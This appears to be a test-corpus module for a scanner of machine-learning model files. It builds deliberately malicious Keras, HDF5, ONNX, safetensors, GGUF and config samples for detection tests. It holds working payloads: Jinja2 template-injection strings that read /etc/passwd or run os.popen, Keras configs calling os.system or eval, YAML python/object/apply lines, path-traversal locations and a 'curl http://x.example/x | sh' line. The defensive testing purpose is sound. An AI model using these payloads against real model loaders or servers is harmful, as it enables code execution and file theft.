"""Models and configurations that reach for more than numbers: Keras, HDF5, TensorFlow, ONNX, safetensors, GGUF."""

import json
import struct
from collections.abc import Iterator
from importlib import import_module
from importlib.util import find_spec
from typing import Any

import onnx
from onnx import TensorProto, helper

from tests.models import onnx_bytes, safetensors_bytes
from tests.scan.corpus.benign import gguf_bytes
from tests.scan.corpus.keras_files import hdf5_bytes, keras_archive, keras_config
from tests.scan.corpus.pickles import SYSTEM
from tests.scan.corpus.sample import Sample


def models() -> list[Sample]:
    """Every odd model and configuration."""
    parts = (
        ("keras", _keras),
        ("tensorflow", _tensorflow),
        ("onnx", _onnx),
        ("safetensors", _safetensors),
        ("gguf", _gguf),
        ("text", _texts),
    )
    found = [Sample(label, data, family) for family, make in parts for label, data in make()]
    found += [
        Sample(f"template-{i}.json", json.dumps({"chat_template": text}).encode(), "template")
        for i, text in enumerate(TEMPLATES)
    ]
    return [*found, *_folders()]


def _layer(
    name: str, module: str | None = "keras.layers", registered: str | None = None, /, **config: Any
) -> dict[str, Any]:
    return {"module": module, "class_name": name, "registered_name": registered, "config": config}


CODE = ["4wEAAAAAAAAAAAAAAAIAAABDAAAA", None, None]
LAYERS: dict[str, dict[str, Any]] = {
    "lambda": _layer(
        "Lambda", function={"class_name": "__lambda__", "config": {"code": CODE[0], "defaults": None, "closure": None}}
    ),
    "lambda-named": _layer("Lambda", function="len"),
    # CVE-2025-1550: any module, any function
    "module": _layer("system", "os"),
    "function": _layer("function", "os", "system", name="x") | {"config": "system"},
    "run-command": _layer("function", "subprocess") | {"config": "run"},
    "class-of-pip": _layer("main", "pip._internal"),
    # CVE-2025-8747: functions of Keras itself
    "get-file": _layer("function", "keras.utils") | {"config": "get_file"},
    "unsafe": _layer("function", "keras.config") | {"config": "enable_unsafe_deserialization"},
    "load-model": _layer("function", "keras.models") | {"config": "load_model"},
    "load-model-class": _layer("load_model", "keras.saving"),
    "src-module": _layer("get_file", "keras.src.utils.file_utils"),
    # CVE-2025-49655, CVE-2025-12058
    "torch": _layer("TorchModuleWrapper", "keras.layers", module="gASV"),
    "torch-src": _layer("TorchModuleWrapper", "keras.src.utils.torch_utils", module="gASV"),
    "tfsm": _layer("TFSMLayer", "keras.layers", filepath="/tmp/m"),
    "vocabulary": _layer("StringLookup", vocabulary="/etc/passwd"),
    "vocabulary-url": _layer("StringLookup", vocabulary="https://x.example/v"),
    "vocabulary-up": _layer("IntegerLookup", vocabulary="../../../etc/passwd"),
    "custom": _layer("Mine", "mine.layers", "Mine>Mine"),
    "registered": _layer("Mine", None, "Package>Mine"),
    "activation": _layer(
        "Dense",
        activation={"class_name": "function", "config": "eval", "module": "builtins", "registered_name": "function"},
    ),
    "builtin": _layer("eval", "builtins"),
    "text": _layer("Dense", name="__import__('os').system('echo palladion')"),
    "module-with-keras-in-front": _layer("Dense", "keras_evil.layers"),
    "dots": _layer("layers.__class__", "keras"),
}


def _keras() -> Iterator[tuple[str, bytes]]:
    if find_spec("h5py") is None:
        return
    for label, layer in LAYERS.items():
        yield f"keras-{label}.keras", keras_archive(keras_config([layer]))
    compiled = keras_config()
    compiled["compile_config"]["loss"] = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
    }
    yield "keras-loss.keras", keras_archive(compiled)
    built = keras_config()
    built["build_config"] = {"module": "builtins", "class_name": "exec", "config": {}, "registered_name": None}
    yield "keras-build.keras", keras_archive(built)
    yield "keras-pickle.keras", keras_archive(keras_config(), assets__pkl=SYSTEM)
    twice = json.dumps(keras_config())[:-1] + ', "class_name": "Lambda"}'
    yield "keras-twice.keras", keras_archive_text(twice)
    yield "keras-no-json.keras", keras_archive_text("{")
    old = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": "Lambda", "config": {"function": CODE, "function_type": "lambda"}}]},
    }
    yield "keras2-lambda.h5", hdf5_bytes(old)
    # CVE-2025-9905: safe_mode is not looked at for HDF5
    escaped = json.dumps(old).replace("Lambda", "\\u004cambda")
    yield "keras2-lambda-escaped.h5", hdf5_bytes(escaped)
    yield "keras2-key-escaped.h5", hdf5_bytes(escaped.replace("class_name", "class\\u005fname"))
    op = {"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}}
    yield "keras2-operator.h5", hdf5_bytes({"class_name": "Functional", "config": {"layers": [op]}})
    custom = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Mine>Attack", "config": {}}]}}
    yield "keras2-custom.h5", hdf5_bytes(custom)
    yield (
        "keras2-unknown.h5",
        hdf5_bytes(
            {"class_name": "Sequential", "config": {"layers": [{"class_name": "EvilThing", "config": {"x": 1}}]}}
        ),
    )
    yield (
        "keras2-code.h5",
        hdf5_bytes(
            {
                "class_name": "Sequential",
                "config": {"layers": [{"class_name": "Dense", "config": {"f": "exec(open('x').read())"}}]},
            }
        ),
    )
    yield "keras3-in-h5.h5", hdf5_bytes(keras_config([LAYERS["module"]]))
    yield (
        "training-config.h5",
        hdf5_bytes(
            change=lambda file: file.attrs.update(
                {
                    "training_config": json.dumps(
                        {"loss": {"class_name": "function", "config": "system", "module": "os"}}
                    )
                }
            )
        ),
    )
    h5py: Any = import_module("h5py")

    def linked(file: Any) -> None:
        file["model_weights/stolen"] = h5py.ExternalLink("/etc/passwd", "/")

    def external(file: Any) -> None:
        file.create_dataset("raw", (16,), "u1", external=[("/etc/passwd", 0, 16)])

    def virtual(file: Any) -> None:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("/tmp/other.h5", "x", (4,))
        file.create_virtual_dataset("v", layout)

    for label, change in (("link", linked), ("external", external), ("virtual", virtual)):
        yield f"hdf5-{label}.h5", hdf5_bytes(change=change)
    yield "hdf5-behind.h5", b"palladion".ljust(512, b"\x00") + hdf5_bytes()


def keras_archive_text(config: str) -> bytes:
    """A `.keras` file whose configuration is any text."""
    from tests.scan.corpus.pickles import zipped

    return zipped({"metadata.json": b"{}", "config.json": config.encode(), "model.weights.h5": hdf5_bytes()})


def _field(number: int, data: bytes) -> bytes:
    length, size = b"", len(data)
    while True:
        length += bytes([size & 127 | (128 if size > 127 else 0)])
        size >>= 7
        if not size:
            return bytes([number << 3 | 2]) + length + data


def saved_model(operators: tuple[str, ...], *, in_function: bool = False) -> bytes:
    """A SavedModel of operators, in its graph or in a function."""
    nodes = [_field(1, f"n{i}".encode()) + _field(2, name.encode()) for i, name in enumerate(operators)]
    if in_function:
        function = _field(1, _field(1, b"f")) + b"".join(_field(3, node) for node in nodes)
        graph = _field(1, _field(1, b"x") + _field(2, b"Placeholder")) + _field(2, _field(1, function))
    else:
        graph = b"".join(_field(1, node) for node in nodes)
    return b"\x08\x01" + _field(2, _field(1, _field(5, b"2.15.0")) + _field(2, graph))


def _tensorflow() -> Iterator[tuple[str, bytes]]:
    for name in ("PyFunc", "EagerPyFunc", "PyFuncStateless", "ReadFile", "WriteFile", "MatchingFiles", "EvilCustomOp",
                 "TextLineDataset",
                 "InitializeTableFromTextFileV2", "DebugIdentityV2", "SaveDatasetV2", "RpcCall"):  # fmt: skip
        yield f"saved-{name}.pb", saved_model(("Const", name, "Identity"))
    yield "saved-function.pb", saved_model(("ReadFile",), in_function=True)
    yield "saved-cut.pb", saved_model(("Const", "MatMul"))[:-9]
    yield "frozen.pb", _field(1, _field(1, b"n") + _field(2, b"ReadFile"))


def _onnx() -> Iterator[tuple[str, bytes]]:
    yield "onnx-domain.onnx", onnx_bytes(domain="evil.ops")
    yield "onnx-python.onnx", onnx_bytes(domain="ai.onnx.contrib")
    yield "onnx-cut.onnx", onnx_bytes()[:-5]
    for label, place in (
        ("absolute", "/etc/passwd"), ("up", "../../etc/passwd"), ("url", "https://x.example/w"),
        ("inner-up", "a/../../b"),
        ("itself", "onnx-itself.onnx"), ("missing", "weights.bin"), ("empty", ""), ("backslash", "..\\w"),
        ("zero", "a\x00b"),
    ):  # fmt: skip
        yield f"onnx-{label}.onnx", external(place)
    yield "onnx-function.onnx", shadowed()


def external(location: str) -> bytes:
    """A model whose weights lie in another file."""
    model = onnx.load_from_string(onnx_bytes())
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "48")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return bytes(model.SerializeToString())


def shadowed() -> bytes:
    """A model that defines a standard operator itself."""
    body = [helper.make_node("Neg", ["a"], ["b"])]
    function = helper.make_function("ai.onnx.ml", "Scaler", ["a"], ["b"], body, [helper.make_opsetid("", 17)])
    value = helper.make_tensor_value_info
    graph = helper.make_graph(
        [helper.make_node("Scaler", ["x"], ["y"], domain="ai.onnx.ml")], "g",
        [value("x", TensorProto.FLOAT, [1])], [value("y", TensorProto.FLOAT, [1])],
    )  # fmt: skip
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 1)]
    return bytes(helper.make_model(graph, opset_imports=opsets, functions=[function], ir_version=8).SerializeToString())


def _tensors(header: str | bytes, size: int = 8) -> bytes:
    data = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(data)) + data + bytes(size)


def _safetensors() -> Iterator[tuple[str, bytes]]:
    entry = '"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    yield "trailing.safetensors", safetensors_bytes() + b"x"
    yield "cut.safetensors", safetensors_bytes()[:-1]
    yield "huge-header.safetensors", struct.pack("<Q", 2**31) + b"{" + bytes(100)
    yield "hole.safetensors", _tensors('{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}')
    yield (
        "overlap.safetensors",
        _tensors(
            '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
        ),
    )
    yield "twice.safetensors", _tensors("{" + entry + "," + entry + "}")
    yield "shape.safetensors", _tensors('{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}')
    yield "negative.safetensors", _tensors('{"a":{"dtype":"F32","shape":[-2],"data_offsets":[0,8]}}')
    yield (
        "overflow.safetensors",
        _tensors('{"a":{"dtype":"F32","shape":[4611686018427387904,4611686018427387904],"data_offsets":[0,8]}}'),
    )
    yield "dtype.safetensors", _tensors('{"a":{"dtype":"OBJ","shape":[2],"data_offsets":[0,8]}}')
    yield "key.safetensors", _tensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"evil":1}}')
    yield "no-json.safetensors", _tensors("{]")
    yield "deep.safetensors", _tensors('{"a":' + "[" * 20_000 + "]" * 20_000 + "}")
    for label, value in (
        ("template", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("code", "import os; os.system('echo palladion')"),
        ("shell", "curl http://x.example/x | sh"), ("script", "<script>alert(1)</script>"),
        ("pickle", "gASMBXBvc2l4jAZzeXN0ZW2TjA5lY2hvIHBhbGxhZGlvboVSLg=="),
    ):  # fmt: skip
        header = json.dumps(
            {"__metadata__": {"note": value}, "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
        )
        yield f"metadata-{label}.safetensors", _tensors(header)


def _gguf() -> Iterator[tuple[str, bytes]]:
    def header(version: int = 3, tensors: int = 0, pairs: int = 0) -> bytes:
        return b"GGUF" + struct.pack("<IQQ", version, tensors, pairs)

    yield "gguf-tensors.gguf", header(tensors=2**63)
    yield "gguf-pairs.gguf", header(pairs=2**40)
    yield "gguf-version.gguf", header(version=99)
    yield "gguf-big-endian.gguf", b"GGUF" + struct.pack(">IQQ", 3, 0, 0)
    yield "gguf-cut.gguf", header(pairs=1)
    yield "gguf-key-length.gguf", header(pairs=1) + struct.pack("<Q", 2**62) + b"abc"
    pair = struct.pack("<Q", 1) + b"k"
    yield "gguf-array-count.gguf", header(pairs=1) + pair + struct.pack("<IIQ", 9, 4, 2**61)
    yield "gguf-array-nested.gguf", header(pairs=1) + pair + struct.pack("<IIQ", 9, 9, 1)
    yield "gguf-type.gguf", header(pairs=1) + pair + struct.pack("<I", 77)
    yield "gguf-string.gguf", header(pairs=1) + pair + struct.pack("<IQ", 8, 2**63)
    entry = (
        struct.pack("<Q", 1)
        + b"t"
        + struct.pack("<I", 4)
        + struct.pack("<4Q", 2**32, 2**32, 2**32, 2)
        + struct.pack("<IQ", 0, 0)
    )
    yield "gguf-overflow.gguf", header(tensors=1) + entry + bytes(64)
    many = struct.pack("<Q", 1) + b"t" + struct.pack("<I", 1000) + bytes(8000)
    yield "gguf-dimensions.gguf", header(tensors=1) + many
    far = struct.pack("<Q", 1) + b"t" + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<IQ", 0, 2**40)
    yield "gguf-offset.gguf", header(tensors=1) + far + bytes(64)
    if find_spec("gguf") is not None:
        for index, text in enumerate(TEMPLATES[::3]):
            yield f"gguf-template-{index}.gguf", gguf_bytes(text)


TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    (
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'x' %}{{ c()._module }}{% endif %}"
        "{% endfor %}"
    ),
    "{{ cycler.__init__.__globals__.os.popen('echo palladion').read() }}",
    "{{ lipsum.__globals__['os'].popen('echo palladion').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('echo palladion') }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context.cycler }}",
    "{{ messages|attr('__class__')|attr('__mro__') }}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ messages['__cla' ~ 'ss__'] }}",
    "{{ messages['__cla' + 'ss__']['__in' + 'it__'] }}",
    "{{ messages[['__', 'class', '__']|join] }}",
    "{{ messages['__ssalc__'|reverse] }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ '{0.__class__}'.format(messages) }}",
    "{{ '%c%c'|format(95, 95) }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ config.items() }}",
    "{{ request.application }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.system('echo palladion') }}",
    "{{ dict(__class__=1) }}",
    "{{ ().__class__.__bases__[0] }}",
    "{{ messages.__len__.__globals__ }}",
    "{{ x.mro() }}",
    "{{ func.func_globals }}",
    "{{ g.gi_frame.f_globals }}",
    "{% set x = cycler %}{{ x.next }}{{ cycler['__init__'] }}",
    "{{ __import__('os') }}",
    "{{ getattr('', 'x') }}",
)


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "trust.json", b'{"trust_remote_code": true}'
    yield "auto-map.json", b'{"auto_map": {"AutoModel": "modeling.Evil"}}'
    yield "auto-map-elsewhere.json", b'{"auto_map": {"AutoModel": "evil/repo--modeling.Evil"}}'
    yield "modules.json", b'[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]'
    yield "model_index.json", b'{"_class_name": "P", "_diffusers_version": "0.30", "unet": ["my_pipeline", "Evil"]}'
    yield "model_index-class.json", b'{"_class_name": ["pipeline", "Evil"], "_diffusers_version": "0.30"}'
    yield "hydra.json", b'{"model": {"_target_": "os.system", "command": "echo palladion"}}'
    yield "hydra-builtin.json", b'{"model": {"_target_": "builtins.eval"}}'
    yield "code.json", b"{\"init\": \"__import__('os').system('echo palladion')\"}"
    yield "notebook.ipynb", b'{"cells": [], "nbformat": 4}'
    yield "python.yaml", b"a: !!python/object/apply:os.system ['echo palladion']\n"
    yield "python-name.yaml", b"a: !!python/name:os.system\n"
    yield "python-new.yaml", b"a: !!python/object/new:type {}\n"
    yield "trust.yaml", b"model:\n  trust_remote_code: true\n"
    yield "template.yaml", b"chat_template: \"{{ ''.__class__.__mro__ }}\"\n"
    yield "template.jinja", b"{{ cycler.__init__.__globals__.os.system('echo palladion') }}"
    yield "pickle.json", b'{"w": "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0ZXN0lIWUUpQu"}'
    yield "source.py", b"import os\n\ndef load(path):\n    return os.popen(path)\n"
    yield "setup.txt", b"import subprocess\nsubprocess.run(['echo', 'palladion'])\n"
    yield "keras.json", json.dumps(keras_config([LAYERS["lambda"]])).encode()


def _folders() -> Iterator[Sample]:
    weights = safetensors_bytes()
    for label, files in {
        "remote": {
            "config.json": b'{"auto_map": {"AutoModel": "modeling_x.Evil"}}',
            "modeling_x.py": b"import os\n\nclass Evil:\n    x = 1\n",
        },
        "bin": {"config.json": b"{}", "pytorch_model.bin": SYSTEM},
        "tokenizer": {
            "config.json": b"{}",
            "tokenizer_config.json": json.dumps({"chat_template": TEMPLATES[0]}).encode(),
        },
        "adapter": {"adapter_config.json": b'{"auto_mapping": null, "trust_remote_code": true}'},
        "training": {"training_args.bin": SYSTEM},
    }.items():
        yield Sample(f"folder-{label}", family="folder", folder={"model.safetensors": weights, **files})
